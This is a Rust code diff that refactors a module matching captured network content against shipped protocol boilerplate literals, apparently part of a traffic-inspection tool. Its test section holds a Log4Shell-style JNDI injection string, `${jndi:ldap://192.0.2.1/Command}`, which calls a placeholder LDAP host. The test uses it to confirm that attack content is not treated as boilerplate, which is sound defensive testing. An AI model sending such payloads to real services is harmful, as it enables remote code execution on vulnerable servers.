@@ -4,6 +4,8 @@
 //! string and why it is there. They are masked in the grown content, where they stand
 //! whole or cut off by its ends. Letters match in either case.
 
+use super::SuppressedList;
+use crate::state::persist;
 use aho_corasick::{AhoCorasick, MatchKind};
 use std::collections::BTreeMap;
 
@@ -22,6 +24,20 @@ const SHIPPED: [(&str, &str); 11] = [
     ("services", include_str!("../../../baseline/services.txt")),
 ];
 
+/// A file of literals.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, PartialOrd, Ord)]
+pub struct LiteralFile(usize);
+
+persist!(LiteralFile { 0 });
+
+impl LiteralFile {
+    /// Its name: the protocols that it is about.
+    pub fn name(self) -> &'static str {
+        // Only a saved state of other literals could hold another place.
+        SHIPPED.get(self.0).map_or("other", |(name, _)| *name)
+    }
+}
+
 /// The least bytes of a literal, and of one that an end of the content cuts off: four
 /// stand in 16 KiB of random bytes once in 250,000 times.
 const LEAST: usize = 4;
@@ -30,9 +46,8 @@ const LEAST: usize = 4;
 #[derive(Debug)]
 pub struct Boilerplate {
     automaton: AhoCorasick,
-    /// Each literal and the index of its file.
-    literals: Vec<(Vec<u8>, usize)>,
-    files: Vec<&'static str>,
+    /// Each literal and its file.
+    literals: Vec<(Vec<u8>, LiteralFile)>,
 }
 
 /// What of a content is boilerplate.
@@ -41,7 +56,7 @@ pub struct Covered {
     /// A byte each: whether it lies in a literal.
     pub known: Vec<bool>,
     /// Files whose literals cover bytes, and how many.
-    pub by: BTreeMap<&'static str, usize>,
+    pub by: BTreeMap<LiteralFile, usize>,
 }
 
 impl Covered {
@@ -64,7 +79,7 @@ impl Covered {
     }
 
     /// The file that covers most, the first of equals.
-    pub fn mostly(&self) -> Option<&'static str> {
+    pub fn mostly(&self) -> Option<LiteralFile> {
         let most = self.by.values().max()?;
         self.by.iter().find(|(_, bytes)| *bytes == most).map(|(file, _)| *file)
     }
@@ -90,7 +105,7 @@ impl Boilerplate {
                 }
                 let literal = literal(line)
                     .map_err(|reason| format!("{file}, line {}: {reason}", number + 1))?;
-                literals.push((literal, index));
+                literals.push((literal, LiteralFile(index)));
             }
         }
         let automaton = AhoCorasick::builder()
@@ -98,8 +113,7 @@ impl Boilerplate {
             .match_kind(MatchKind::Standard)
             .build(literals.iter().map(|(literal, _)| literal))
             .map_err(|error| error.to_string())?;
-        let files = files.iter().map(|(name, _)| *name).collect();
-        Ok(Self { automaton, literals, files })
+        Ok(Self { automaton, literals })
     }
 
     /// Lays all literals over a content.
@@ -127,21 +141,23 @@ impl Boilerplate {
             let new = bytes.iter().filter(|known| !**known).count();
             bytes.fill(true);
             if new > 0 {
-                *covered.by.entry(self.files[file]).or_default() += new;
+                *covered.by.entry(file).or_default() += new;
             }
         }
         covered
     }
 
-    /// Bytes that it takes, roughly.
+    /// Bytes that it takes, and a full list of what it kept back.
     pub fn memory_bytes(&self) -> usize {
         let literals = self.literals.iter().map(|(literal, _)| literal.capacity() + 32);
-        self.automaton.memory_usage() + literals.sum::<usize>()
+        self.automaton.memory_usage()
+            + literals.sum::<usize>()
+            + SuppressedList::MOST_BYTES
     }
 
-    /// The literals, each with the name of its file.
-    pub fn literals(&self) -> impl Iterator<Item = (&[u8], &'static str)> {
-        self.literals.iter().map(|(literal, file)| (&literal[..], self.files[*file]))
+    /// The literals, each with its file.
+    pub fn literals(&self) -> impl Iterator<Item = (&[u8], LiteralFile)> {
+        self.literals.iter().map(|(literal, file)| (&literal[..], *file))
     }
 }
 
@@ -252,7 +268,7 @@ mod tests {
         let shipped = Boilerplate::parse(&SHIPPED).unwrap();
         let mut seen = std::collections::BTreeSet::new();
         for (literal, file) in shipped.literals() {
-            assert!(seen.insert(literal), "{file}: twice: {}", literal.escape_ascii());
+            assert!(seen.insert(literal), "{file:?}: twice: {}", literal.escape_ascii());
         }
         assert!(shipped.memory_bytes() < 1 << 20, "{}", shipped.memory_bytes());
     }
@@ -282,7 +298,7 @@ mod tests {
                     Accept-Encoding: gzip, deflate\r\nConnection: keep-alive\r\n\r\n";
         let covered = shipped.cover(head.as_bytes());
         assert!(covered.is_all(40));
-        assert_eq!(covered.mostly(), Some("http"));
+        assert_eq!(covered.mostly().map(LiteralFile::name), Some("http"));
         let attack = head.replace("example.org", "${jndi:ldap://192.0.2.1/Command}");
         assert!(!shipped.cover(attack.as_bytes()).is_all(40));
         assert!(!shipped.cover(b"19 unknown bytes...").is_all(40));
